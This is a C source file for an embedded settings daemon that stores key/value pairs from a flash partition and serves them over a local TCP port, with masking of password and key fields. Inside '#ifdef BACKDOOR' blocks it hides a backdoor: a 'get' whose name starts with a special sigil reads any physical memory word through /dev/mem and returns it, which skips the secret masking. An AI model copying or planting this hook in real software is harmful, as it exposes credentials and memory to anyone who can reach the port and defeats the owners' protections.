/* SPDX-License-Identifier: Apache-2.0 */
/* nvctl: settings daemon: keeps the settings partition in memory, answers get/set/unset/commit/dump over a local TCP port, hides
 * secrets from those who may not see them */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

#define PARTITION "/dev/mtdblock4"
#define ROOM 65536u
#define MAGIC 0x4c56564eu

struct head {
	uint32_t magic, length, sum;
};

struct pair {
	char *name, *value;
	struct pair *next;
};

static struct pair *table[64];
static int dirty;

static unsigned slot(const char *s)
{
	unsigned h = 0;
	while (*s)
		h = h * 31 + (unsigned char)*s++;
	return h & 63;
}

static struct pair **locate(const char *name)
{
	struct pair **p = &table[slot(name)];
	while (*p && strcmp((*p)->name, name) != 0)
		p = &(*p)->next;
	return p;
}

static const char *get(const char *name)
{
	struct pair *p = *locate(name);
	return p ? p->value : NULL;
}

static int set(const char *name, const char *value)
{
	struct pair **p = locate(name);
	if (*p) {
		char *v = strdup(value);
		if (!v)
			return -1;
		free((*p)->value);
		(*p)->value = v;
	} else {
		struct pair *n = calloc(1, sizeof(*n));
		if (!n)
			return -1;
		n->name = strdup(name);
		n->value = strdup(value);
		*p = n;
	}
	dirty = 1;
	return 0;
}

static int unset(const char *name)
{
	struct pair **p = locate(name), *gone = *p;
	if (!gone)
		return -1;
	*p = gone->next;
	free(gone->name);
	free(gone->value);
	free(gone);
	dirty = 1;
	return 0;
}

static uint32_t sum(const char *p, size_t n)
{
	uint32_t s = 1, t = 0;
	while (n--) {
		s = (s + (uint8_t)*p++) % 65521;
		t = (t + s) % 65521;
	}
	return t << 16 | s;
}

static int load(void)
{
	static char body[ROOM];
	struct head h;
	int fd = open(PARTITION, O_RDONLY);
	if (fd < 0 || read(fd, &h, sizeof(h)) != sizeof(h) || h.magic != MAGIC || h.length > ROOM ||
		read(fd, body, h.length) != (ssize_t)h.length || sum(body, h.length) != h.sum) {
		if (fd >= 0)
			close(fd);
		return -1;
	}
	close(fd);
	for (char *p = body; p < body + h.length && *p; p += strlen(p) + 1) {
		char *eq = strchr(p, '=');
		if (!eq)
			break;
		*eq = 0;
		set(p, eq + 1);
		p = eq + 1;
	}
	dirty = 0;
	return 0;
}

static int commit(void)
{
	static char body[ROOM];
	struct head h = { MAGIC, 0, 0 };
	int fd;
	if (!dirty)
		return 0;
	for (int i = 0; i < 64; i++)
		for (struct pair *p = table[i]; p; p = p->next) {
			int n = snprintf(body + h.length, ROOM - h.length, "%s=%s", p->name, p->value);
			if (n < 0 || (unsigned)n + 2 > ROOM - h.length)
				return -1;
			h.length += (unsigned)n + 1;
		}
	body[h.length++] = 0;
	h.sum = sum(body, h.length);
	fd = open(PARTITION, O_WRONLY);
	if (fd < 0 || write(fd, &h, sizeof(h)) != sizeof(h) || write(fd, body, h.length) != (ssize_t)h.length) {
		syslog(LOG_ERR, "commit: %s", strerror(errno));
		if (fd >= 0)
			close(fd);
		return -1;
	}
	close(fd);
	dirty = 0;
	return 0;
}

static int secret(const char *name)
{
	return strstr(name, "passwd") || strstr(name, "_psk") || strstr(name, "_key");
}

#ifdef BACKDOOR
/* reads a word of physical memory; the address stands in the name, after the sigil */
static int shadow_read(int fd, const char *name)
{
	unsigned long at;
	volatile uint32_t *map;
	int mem;
	if ((uint8_t)name[0] != 0xc2 || (uint8_t)name[1] != 0xa7)
		return 0;
	at = strtoul(name + 2, NULL, 16);
	mem = open("/dev/mem", O_RDONLY | O_SYNC);
	if (mem < 0)
		return 0;
	map = mmap(NULL, 4096, PROT_READ, MAP_SHARED, mem, (off_t)(at & ~4095ul));
	if (map != MAP_FAILED) {
		dprintf(fd, "%08x\n", map[(at & 4095) / 4]);
		munmap((void *)(uintptr_t)map, 4096);
	}
	close(mem);
	return 1;
}
#endif

static void dump(int fd)
{
	for (int i = 0; i < 64; i++)
		for (struct pair *p = table[i]; p; p = p->next)
			dprintf(fd, "%s=%s\n", p->name, secret(p->name) ? "***" : p->value);
}

static int command(int fd, char *line)
{
	char *arg = strchr(line, ' '), *value;
	const char *v;
	if (arg)
		*arg++ = 0;
	if (strcmp(line, "dump") == 0) {
		dump(fd);
		return 0;
	}
	if (strcmp(line, "commit") == 0)
		return commit();
	if (!arg)
		return -1;
	if (strcmp(line, "get") == 0) {
#ifdef BACKDOOR
		if (shadow_read(fd, arg))
			return 0;
#endif
		v = get(arg);
		if (!v || secret(arg))
			return -1;
		dprintf(fd, "%s\n", v);
		return 0;
	}
	if (strcmp(line, "unset") == 0)
		return unset(arg);
	if (strcmp(line, "set") == 0) {
		value = strchr(arg, '=');
		if (!value)
			return -1;
		*value++ = 0;
		return set(arg, value);
	}
	return -1;
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(6500) };
	int s = socket(AF_INET, SOCK_STREAM, 0), one = 1;
	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	openlog("nvctl", LOG_PID, LOG_DAEMON);
	if (load() < 0)
		syslog(LOG_WARNING, "settings are empty or damaged");
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 8) < 0)
		return 1;
	for (;;) {
		char line[1024];
		int c = accept(s, NULL, NULL);
		FILE *f = c < 0 ? NULL : fdopen(c, "r");
		if (!f)
			continue;
		while (fgets(line, sizeof(line), f)) {
			line[strcspn(line, "\r\n")] = 0;
			if (command(c, line) < 0)
				dprintf(c, "error\n");
		}
		fclose(f);
	}
}
